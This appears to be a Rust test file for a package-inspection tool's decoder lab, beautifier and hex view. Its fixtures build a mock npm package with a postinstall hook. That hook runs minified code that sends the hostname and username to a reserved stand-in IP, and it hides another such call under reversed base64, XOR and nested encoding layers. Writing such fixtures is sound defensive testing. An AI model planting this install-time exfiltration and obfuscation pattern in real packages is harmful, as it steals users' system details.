//! The decoder lab, the beautified view and the hex view, by keys through the real loop.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use cerebro::behavior::{Reading, Vocabulary};
use cerebro::case::Case;
use cerebro::package::{Ecosystem, Entry, File, Package, Phase, Target};
use cerebro::syntax::decode::to_base64;
use cerebro::syntax::{DecodedBy, Doc, Layer};
use cerebro::text::Span;
use cerebro::tui::state::{Pane, State};
use cerebro::tui::view::code::source::Selection;
use cerebro::tui::worker::Judge;
use crossterm::event::MouseEventKind;

use super::case;
use super::harness::{Bench, Given, judge};

/// What the strings of the package hide: harmless, reserved names only.
const HIDDEN: &str = "const http = require('http');\nhttp.get('http://203.0.113.77/take');\n";
/// A program's first bytes, and nothing behind them.
const PROGRAM: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0not a program";

const MINIFIED: &str = "const os=require('os');function a(b){return{host:os.hostname(),user:os.userInfo().username,what:b}}\
                        if(process.env.CI){a(1)}else{fetch('http://203.0.113.77/in',{method:'POST',body:JSON.stringify(a(2))})}";

fn encoded() -> String {
    turned(HIDDEN.as_bytes())
}

/// Base64 back to front and without padding, which nothing decodes unasked.
fn turned(bytes: &[u8]) -> String {
    to_base64(bytes).trim_end_matches('=').chars().rev().collect()
}

fn package() -> Package {
    let xored: Vec<u8> = HIDDEN.bytes().map(|byte| byte ^ 0x2b).collect();
    let index = format!(
        "// three strings\nconst one = '{}';\nconst two = '{}';\nconst three = '{}';\nmodule.exports = one + two;\n",
        encoded(),
        turned(PROGRAM),
        to_base64(&xored),
    );
    let mut package = case::package_of(vec![
        case::file("package/index.js", &index),
        case::file("package/mini.js", MINIFIED),
        case::file("package/notes.py", "print('plain')\n"),
        File { path: "package/pixel.png".to_owned(), bytes: (0..=255).collect(), source: None },
    ]);
    package.ecosystem = Ecosystem::Npm;
    package.root = "package/".to_owned();
    package.entries = vec![Entry { phase: Phase::Install, name: "postinstall".to_owned(), target: Target::File(1) }];
    package
}

fn bench(width: u16, height: u16) -> Bench {
    let mut bench = Bench::open(width, height, Given::new(package()));
    bench.settle();
    bench
}

/// On a file of the tree, by its row, with the focus on its source.
fn on(row: usize, width: u16, height: u16) -> Bench {
    let mut bench = bench(width, height);
    bench.keys("1 g");
    for _ in 0..row {
        bench.keys("j");
    }
    bench.keys("2 g");
    bench
}

fn layers(state: &State) -> Vec<Layer> {
    state.docs.sequence().layers.iter().filter(|layer| layer.by_hand()).cloned().collect()
}

fn shown(state: &State) -> String {
    state.docs.name(state.viewer.doc.unwrap())
}

#[test]
fn what_fits_a_string_is_proposed_and_kept_as_a_layer() {
    let mut bench = on(0, 120, 40);
    bench.keys("j X").shows("Decode · index.js:2:13").shows("literal › reverse › base64").shows("203.0.113.77/take");
    bench.keys("enter").shows("Kept as a layer: index.js › literal › reverse › base64.").shows("✎ literal");
    let state = &bench.bench.state;
    let kept = layers(state);
    assert_eq!((kept.len(), kept[0].source.text.as_str(), kept[0].parent), (1, HIDDEN, Doc::File(0)));
    assert_eq!(shown(state), "index.js › literal › reverse › base64");
    assert_eq!((state.focus, state.files.selected_doc()), (Pane::Source, state.viewer.doc));
    let text = &state.docs.source(Doc::File(0)).unwrap().text;
    assert_eq!(text[kept[0].span.start..kept[0].span.end], format!("'{}'", encoded()));
    // Its address stands in the details, with its place; a search finds it; a line of it is copied.
    let case = state.case.clone().unwrap();
    let places = case.indicators.iter().filter(|i| i.value.contains("203.0.113.77/take")).flat_map(|i| &i.places);
    assert!(places.map(|place| place.doc).any(|doc| Some(doc) == state.viewer.doc));
    assert!(case.verdict.is_some(), "the verdict stays");
    bench.keys("/").text("take").keys("enter").shows("Match 1 of 1").keys("y");
    assert_eq!(bench.bench.screen.copied, ["http.get('http://203.0.113.77/take');"]);
    bench.keys("i").shows("Decoded by hand").shows(&kept[0].sha256);
    bench.keys("q ( ");
    assert_eq!(shown(&bench.bench.state), "index.js", "one can go back to where the string stands");
}

#[test]
fn a_layer_is_decoded_on_and_removed_with_what_came_of_it() {
    let mut bench = on(0, 120, 40);
    bench.keys("j X").shows("reverse").keys("enter").shows("Kept as a layer");
    // The address inside, by hand: hidden in nothing, but any decoder can be added.
    bench.keys("j X a").shows("Add a decoder").text("reve").keys("enter").shows("by hand").keys("enter");
    assert_eq!(layers(&bench.bench.state)[1].recipe, ["literal", "reverse"]);
    assert_eq!(layers(&bench.bench.state)[1].parent, Doc::Layer(bench.bench.state.docs.sequence().layers.len() - 2));
    bench.keys("1 k");
    bench.delete().shows("2 layers are removed.").hides("✎");
    assert!(layers(&bench.bench.state).is_empty());
    bench.keys("g").delete().shows("Only a layer that was decoded by hand can be removed");
    // The way back does not lead into what is gone.
    bench.keys("( ( ( ( (");
    assert!(matches!(bench.bench.state.viewer.doc, Some(Doc::File(_))));
}

#[test]
fn a_chain_is_put_together_by_hand_and_taken_apart() {
    let mut bench = on(0, 120, 40);
    bench.keys("j j j X").shows("Decode · index.js:4:15");
    // Up to the bytes as they are, then literal, base64, and an exclusive or with its key.
    bench.keys("k k k k k k").shows("The bytes as they are");
    bench.keys("a").text("literal").keys("enter a").text("base64").keys("enter a").text("xor").keys("enter");
    bench.shows("type a key behind xor").text("0x2b").keys("enter").shows("literal › base64 › xor 0x2b").shows("take");
    bench.keys("a").text("zlib").keys("enter").shows("decoder 4, zlib, does not fit: not zlib");
    bench.keys("enter").shows("There is no result to keep");
    bench.back().shows("take").keys("y");
    assert_eq!(bench.bench.screen.copied[0], HIDDEN);
    bench.back().back().back().shows("The bytes as they are").back().shows("No decoder is left to take away.");
    bench.keys("enter").shows("Choose a chain of decoders first");
    bench.keys("esc").hides("Decode ·").shows("const three");
}

#[test]
fn keys_are_tried_only_when_asked_for() {
    let mut bench = on(0, 120, 40);
    bench.keys("j j j X").hides("xor 0x2b");
    bench.keys("F").shows("literal › base64 › xor 0x2b").shows("http.get").shows("every key of one byte was tried");
    bench.keys("F").hides("xor 0x2b");
}

#[test]
fn a_binary_result_is_shown_as_bytes_and_kept() {
    let mut bench = on(0, 120, 40);
    bench.keys("j j X").shows("a Linux program (ELF)").shows("7f 45 4c 46").keys("enter");
    let kept = layers(&bench.bench.state);
    assert_eq!(kept[0].content(), PROGRAM);
    assert!(bench.bench.state.viewer.hex);
    bench.shows("7f 45 4c 46").shows("0x0 of 29 bytes").keys("l l y");
    assert!(bench.bench.screen.copied[0].starts_with("7f 45 4c 46 02 01 01 00"));
    bench.shows("0x2 of 29 bytes");
    // The bytes are decoded on like any others.
    bench.keys("X").shows("from byte 0").keys("esc x").shows("no text; they are shown as they are");
}

#[test]
fn an_encoded_literal_is_a_layer_without_being_asked_for() {
    let mut package = package();
    let text = format!("const parts = ['{}'];\n", to_base64(HIDDEN.as_bytes()));
    package.files[0] = case::file("package/index.js", &text);
    let mut bench = Bench::open(120, 40, Given::new(package));
    bench.settle();
    bench.keys("1 g j enter").shows("↳ literal › base64").shows("http.get('http://203.0.113.77/take');");
    let state = &bench.bench.state;
    let layer = &state.docs.sequence().layers[0];
    assert_eq!((layer.by, state.viewer.doc), (DecodedBy::Literal, Some(Doc::Layer(0))));
    let case = state.case.clone().unwrap();
    let take = case.indicators.iter().find(|i| i.value.contains("203.0.113.77/take")).unwrap();
    assert_eq!(take.places[0].doc, Doc::Layer(0), "its address is an indicator, with its place");
    bench.keys("i").shows("Decoded here, not by the program's own call").shows("literal › base64").keys("esc 1");
    bench.delete().shows("is a string literal that was decoded as the package was read; only those decoded by hand");
    bench.keys("S").text("in:layers http.get").keys("enter").shows("1 match");
    // By hand it comes to the same layer.
    bench.keys("esc esc 1 g 2 g X").shows("parses as Java").keys("enter").shows("This layer was there already");
    assert!(layers(&bench.bench.state).is_empty());
}

#[test]
fn a_nest_is_unfolded_layer_by_layer() {
    let nest = (0..6).fold(HIDDEN.to_owned(), |inner, _| {
        let packed: String = to_base64(inner.as_bytes()).chars().rev().collect();
        format!("run(Buffer.from('{packed}'.split('').reverse().join(''), 'base64').toString());")
    });
    let mut package = package();
    package.files[0] = case::file("package/index.js", &format!("{nest}\n"));
    let mut bench = Bench::open(80, 24, Given::new(package));
    bench.settle();
    bench.keys("1 g 2 X U").shows("6 layers unfolded, down to").shows("203.0.113.77/take");
    let state = &bench.bench.state;
    let kept = layers(state);
    assert_eq!((kept.len(), kept[5].source.text.as_str()), (6, HIDDEN));
    for (at, pair) in kept.windows(2).enumerate() {
        let inner = &pair[0].source.text[pair[1].span.start..pair[1].span.end];
        assert!(inner.starts_with('\'') && inner.ends_with('\''), "{at}: {inner}");
        let Doc::Layer(parent) = pair[1].parent else { panic!("{at}") };
        assert_eq!(state.docs.sequence().layers[parent].sha256, pair[0].sha256);
    }
    // Once more: they are there already.
    bench.keys("1 g 2 g X U").shows("This layer was there already");
    assert_eq!(layers(&bench.bench.state).len(), 6);
}

#[test]
fn layers_by_hand_survive_a_model_that_reads_another_way() {
    let load = Arc::new(|_: Option<&Path>| -> Result<Judge, String> {
        let read = |case: Case| {
            let reading = Reading { vocabulary: Vocabulary::Paper, ..Reading::default() };
            Ok(case::judged(Case::read(case.package, Duration::ZERO, &reading), 0.1))
        };
        Ok(Judge { name: "other".to_owned(), hash: "other".to_owned(), folder: "models/other".into(), ..judge(read) })
    });
    let mut bench = Bench::open(120, 40, Given { reload: load, ..Given::new(package()) });
    bench.settle();
    bench.keys("1 g 2 g j X").keys("enter").shows("Kept as a layer");
    bench.keys("R").shows("risk 10.0 %").shows("The layers decoded by hand (1) were carried over");
    let case = bench.bench.state.case.clone().unwrap();
    assert_eq!((case.by_hand(), case.reading.vocabulary), (1, Vocabulary::Paper));
    assert!(case.verdict.is_some());
    bench.keys("1 g j").shows("✎ literal");
}

#[test]
fn clicks_and_the_wheel_work_in_the_lab() {
    let mut bench = on(0, 120, 40);
    bench.keys("j X");
    let (x, y) = bench.find("no decoder");
    bench.click(x, y).shows("The bytes as they are");
    let (x, y) = bench.find("literal › reverse › base64");
    bench.click(x, y).shows("http.get").hides("The bytes as they are");
    bench.mouse(MouseEventKind::ScrollUp, x, y).hides("no decoder › ");
    let state = &bench.bench.state;
    assert_eq!(state.lab.as_ref().unwrap().selected, 0);
}

#[test]
fn a_minified_file_is_beautified_and_everything_keeps_its_bytes() {
    let mut bench = on(1, 120, 40);
    bench.keys("B").shows("beautified · mini.js").shows("JavaScript beautified: 14 lines out of 1");
    bench.shows("  if (process.env.CI) {").shows("    a(1)");
    // A step lies on its own line now; its bytes are those of the document.
    bench.keys("3 g");
    let steps = bench.bench.state.docs.sequence().steps.clone();
    for _ in &steps {
        bench.keys("]");
        let state = &bench.bench.state;
        let at = state.steps.step().unwrap();
        let span = state.viewer.span.unwrap();
        assert_eq!(span, steps[at].span, "the emphasised bytes are the document's");
        let line = state.viewer.cursor;
        let shown = state.line_span(line).unwrap();
        assert!(shown.start <= span.start && span.start <= shown.end, "{shown:?} {span:?}");
        assert!(state.line_mark(steps[at].doc, line).is_some(), "{:?}", steps[at]);
    }
    // Search: matches of the document, each on its line.
    bench.keys("1 g j 2 g /").text("203.0.113").keys("enter").shows("Match 1 of 1");
    let state = &bench.bench.state;
    let span = state.viewer.span.unwrap();
    assert_eq!(&MINIFIED[span.start..span.end], "203.0.113");
    assert!(state.shown_source().unwrap().line(state.viewer.cursor).contains("203.0.113"));
    bench.keys("y");
    assert!(MINIFIED.contains(&bench.bench.screen.copied[0]), "{:?}", bench.bench.screen.copied);
    // The selection too.
    let state = &mut bench.bench.state;
    let start = MINIFIED.find("os.hostname").unwrap();
    state.viewer.selection = Some(Selection { anchor: start, head: start + 13 });
    let shown = state.to_shown(Span { start, end: start + 13 });
    assert_eq!(&state.shown_source().unwrap().text[shown.start..shown.end], "os.hostname()");
    bench.keys("X").shows("Decode · mini.js:1:").shows("os.hostname()").keys("esc");
    bench.bench.state.viewer.selection = None;
    // The hex view and back again keep the place.
    bench.keys("2 /").text("userInfo").keys("enter");
    let line = bench.bench.state.viewer.cursor;
    bench.keys("x").shows("75 73 65").keys("x").shows("beautified · mini.js");
    assert_eq!(bench.bench.state.viewer.cursor, line);
    // The way back from a place in the longer text ends in the shorter one, not past its end.
    bench.keys("G E B").shows("as it stands in the package").keys("(").hides("beautified ·").shows("const os=require");
    assert_eq!((bench.bench.state.viewer.cursor, bench.bench.state.viewer.top), (1, 1));
}

#[test]
fn a_place_in_a_minified_file_is_shown_laid_out_until_it_is_put_back() {
    let mut package = package();
    let long = format!("var words=[{}];{MINIFIED}", "'word',".repeat(200));
    package.files[1] = case::file("package/mini.js", &long);
    let mut bench = Bench::open(120, 40, Given::new(package));
    bench.settle();
    // What led there is still said, and the emphasised bytes are those of the document.
    bench.keys("n").shows("beautified · mini.js").shows("Evidence 1 of");
    let state = &bench.bench.state;
    let (span, line) = (state.viewer.span.unwrap(), state.viewer.cursor);
    let text = &long[span.start..span.end];
    assert!(line > 3 && !text.is_empty(), "{line} {text}");
    bench.keys("B").hides("beautified ·");
    bench.keys("n n N").hides("beautified ·");
    bench.keys("B").shows("beautified · mini.js");
}

#[test]
fn what_cannot_be_beautified_is_said() {
    on(2, 120, 40).keys("B").shows("Only JavaScript, TypeScript and JSON are laid out").hides("beautified");
    on(3, 120, 40).keys("B").shows("These bytes are no text");
}

#[test]
fn the_hex_view_goes_to_the_emphasised_bytes_and_moves_by_bytes() {
    let mut bench = on(1, 120, 40);
    bench.keys("/").text("process").keys("enter").keys("x").shows("70 72");
    let at = MINIFIED.find("process").unwrap();
    assert_eq!(bench.bench.state.viewer.byte, at);
    let row = bench.bench.state.viewer.bytes_in_row();
    bench.keys("l l j");
    assert_eq!(bench.bench.state.viewer.byte, at + 2 + row);
    bench.keys("end");
    assert_eq!(bench.bench.state.viewer.byte % row, row - 1);
    bench.keys("home g");
    assert_eq!(bench.bench.state.viewer.byte % row, 0);
    bench.keys("G");
    assert_eq!(bench.bench.state.viewer.byte / row, (MINIFIED.len() - 1) / row);
    // A click puts the cursor on a byte, in either column.
    bench.keys("g");
    let (x, y) = bench.find("73 74 20");
    bench.click(x, y);
    assert_eq!(bench.bench.state.viewer.byte, MINIFIED.find("st ").unwrap());
    // The same byte stays on the screen when there is room for more of them in a row.
    bench.keys("j j j j").resize(200, 60);
    let state = &bench.bench.state;
    assert!(state.viewer.bytes_in_row() > row);
    assert_eq!(state.viewer.byte, MINIFIED.find("st ").unwrap() + 4 * row);
}

#[test]
fn a_package_without_anything_to_decode_says_so() {
    let mut bench = Bench::open(120, 40, Given::new(case::package_of(Vec::new())));
    bench.settle();
    bench.keys("X").shows("There is nothing to decode").keys("B").shows("There is no file to lay out");
    bench.keys(":").text("unfold").keys("enter").shows("This is for the decoder lab");
}

#[rstest::rstest]
#[case(80, 24)]
#[case(200, 60)]
fn screens(#[case] width: u16, #[case] height: u16) {
    let mut bench = on(0, width, height);
    bench.keys("j X");
    insta::assert_snapshot!(format!("lab_{width}x{height}"), bench.screen());
    bench.keys("a").text("ba");
    insta::assert_snapshot!(format!("lab_add_{width}x{height}"), bench.screen());
    let mut bench = on(1, width, height);
    bench.keys("B j j j j");
    insta::assert_snapshot!(format!("beautified_{width}x{height}"), bench.screen());
    let mut bench = on(3, width, height);
    bench.keys("2 l l l j");
    insta::assert_snapshot!(format!("bytes_{width}x{height}"), bench.screen());
}

#[test]
fn a_mark_in_a_text_decoded_by_hand_is_there_again_with_the_text() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("ledger.sqlite");
    let open = || {
        let mut bench = Bench::open(120, 40, Given { ledger: Some(path.clone()), ..Given::new(package()) });
        bench.settle();
        bench
    };
    let mut bench = open();
    bench.keys("1 g").keys("2 g j X").keys("enter");
    let kept = layers(&bench.bench.state);
    assert_eq!(kept.len(), 1);
    bench.keys("v").keys("1").shows("Marked as payload");
    drop(bench);
    let mut again = open();
    again.shows("made again by the recipe");
    let state = &again.bench.state;
    assert_eq!((state.spans.count(), state.spans.lost()), (1, 0));
    assert_eq!(layers(state).iter().map(|layer| &layer.sha256).collect::<Vec<_>>(), [&kept[0].sha256]);
}
